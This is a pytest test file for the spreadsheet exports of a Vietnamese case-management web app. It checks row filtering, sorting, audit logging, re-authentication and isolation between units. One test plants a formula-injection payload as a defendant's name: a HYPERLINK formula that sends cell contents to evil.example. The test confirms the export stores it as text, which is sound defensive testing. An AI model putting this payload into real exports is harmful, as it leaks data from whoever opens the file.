"""The .xlsx export of every list: exactly the filtered rows (not just the
page), Vietnamese headers, dd/mm/yyyy dates, recorded in the audit log, and
only after a recent confirmation of identity."""

import datetime as dt
import io
import time

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from audit.models import AuditLog
from cases.models import EventKind
from cases.services import add_event
from sothuly.reauth import SESSION_KEY
from tests.conftest import TODAY

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def frozen_today(monkeypatch):
    monkeypatch.setattr("django.utils.timezone.localdate", lambda *args: TODAY)


def _fresh(client):
    session = client.session
    session[SESSION_KEY] = int(time.time())
    session.save()
    return client


def _rows(response) -> list[tuple]:
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [row for row in sheet.iter_rows(values_only=True) if any(row)]


def _body(rows: list[tuple], first_header: str) -> tuple[tuple, list[tuple]]:
    header = next(row for row in rows if row[0] == first_header)
    return header, rows[rows.index(header) + 1 :]


@pytest.fixture
def three_overdue(unit_a, prosecutor_a, make_case):
    """Three cases whose A5 (effect 22/04/2025, due 29/04/2025) is overdue."""
    return [
        make_case(unit_a, full_name=name, prosecutor=prosecutor_a)
        for name in ("Bùi Văn Ba", "An Thị Một", "Cao Văn Hai")
    ]


def test_the_deadline_export_holds_every_filtered_row_not_just_the_page(
    three_overdue, prosecutor_a, client_for, monkeypatch
):
    monkeypatch.setattr("cases.views.PAGE_SIZE", 2)
    client = _fresh(client_for(prosecutor_a))

    page = client.get("/thoi-han/?status=overdue&rule=A5&sort=ten").content.decode()
    rows = _rows(client.get("/thoi-han/?status=overdue&rule=A5&sort=ten&xuat=xlsx"))

    assert page.count("A5</span>") == 2
    header, body = _body(rows, "Hạn")
    assert header[:4] == ("Hạn", "Tình trạng", "Số ngày chậm", "Quy tắc")
    # Vietnamese order: by given name first (Ba, Hai, Một).
    assert [row[6] for row in body] == ["Bùi Văn Ba", "Cao Văn Hai", "An Thị Một"]
    assert {row[0].date() for row in body} == {dt.date(2025, 4, 29)}
    assert {row[2] for row in body} == {34}  # 29/04 → 02/06/2025


def test_the_case_list_export_follows_the_search(
    three_overdue, prosecutor_a, client_for
):
    client = _fresh(client_for(prosecutor_a))

    rows = _rows(client.get("/ho-so/?q=cao&xuat=xlsx"))

    _header, body = _body(rows, "Số thụ lý")
    assert [row[2] for row in body] == ["Cao Văn Hai"]
    entry = AuditLog.objects.get(action=AuditLog.Action.EXPORT)
    # The search words can be a name: the audit entry leaves them out.
    assert "cao" not in entry.detail.lower()
    assert "1 dòng" in entry.detail


def test_text_that_looks_like_a_formula_is_exported_as_text(
    unit_a, prosecutor_a, make_case, client_for
):
    """A name typed as a spreadsheet formula must not run in the Excel of
    whoever opens the export (a provincial leader, another prosecutor)."""
    planted = '=HYPERLINK("http://evil.example/?"&A1,"Mở")'
    make_case(unit_a, full_name=planted, prosecutor=prosecutor_a)
    client = _fresh(client_for(prosecutor_a))

    response = client.get("/ho-so/?xuat=xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    assert planted in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells if cell.value == planted} == {"s"}


def test_the_work_list_export_holds_the_whole_sections(
    three_overdue, prosecutor_a, client_for, monkeypatch
):
    monkeypatch.setattr("monitoring.worklist.SECTION_LIMIT", 1)
    client = _fresh(client_for(prosecutor_a))

    rows = _rows(client.get("/viec-cua-toi/?xuat=xlsx"))

    _header, body = _body(rows, "Mục")
    overdue = [row for row in body if row[0] == "Quá hạn"]
    assert sorted(row[7] for row in overdue if row[4] == "A5") == [
        "An Thị Một",
        "Bùi Văn Ba",
        "Cao Văn Hai",
    ]


def test_a_section_of_the_work_list_is_paginated_and_sorted(
    three_overdue, prosecutor_a, client_for, monkeypatch
):
    monkeypatch.setattr("sothuly.tables.PAGE_SIZE", 2)
    client = client_for(prosecutor_a)

    first = client.get("/viec-cua-toi/?muc=overdue&sort=ten").content.decode()
    last = client.get("/viec-cua-toi/?muc=overdue&sort=ten&page=99").content.decode()

    # Vietnamese order by given name: Ba first, Một last.
    assert "Bùi Văn Ba" in first and "An Thị Một" not in first
    assert "Sau ›" in first
    assert "An Thị Một" in last and "Bùi Văn Ba" not in last


def test_an_export_needs_a_recent_confirmation_of_identity(
    three_overdue, prosecutor_a, client_for
):
    client = client_for(prosecutor_a)
    session = client.session
    session[SESSION_KEY] = int(time.time()) - 24 * 3600  # signed in yesterday
    session.save()

    response = client.get("/ho-so/?xuat=xlsx")

    assert response.status_code == 302
    assert "next=" in response["Location"]
    assert not AuditLog.objects.filter(action=AuditLog.Action.EXPORT).exists()


def test_the_outsider_exports_nothing_of_another_unit(
    three_overdue, prosecutor_b, client_for
):
    client = _fresh(client_for(prosecutor_b))

    for url in (
        "/ho-so/?xuat=xlsx",
        "/thoi-han/?xuat=xlsx",
        "/viec-cua-toi/?xuat=xlsx",
        "/sap-het-han/ra-trai/?xuat=xlsx",
    ):
        body = client.get(url).content
        names = [
            cell
            for row in load_workbook(io.BytesIO(body)).active.iter_rows(
                values_only=True
            )
            for cell in row
        ]
        assert "An Thị Một" not in names, url


def test_the_coming_ends_list_reads_in_a_fixed_number_of_queries(
    unit_a, prosecutor_a, make_case, client_for
):
    client = client_for(prosecutor_a)

    def add_postponed(count):
        for _ in range(count):
            case = make_case(unit_a)
            add_event(
                case,
                kind=EventKind.POSTPONEMENT_GRANTED,
                date=dt.date(2025, 5, 5),
                details={"until": "2025-06-20"},
            )

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            response = client.get("/sap-het-han/hoan-tam-dinh-chi/")
        assert response.status_code == 200
        return len(captured)

    add_postponed(2)
    few = queries()
    add_postponed(3)

    assert queries() == few
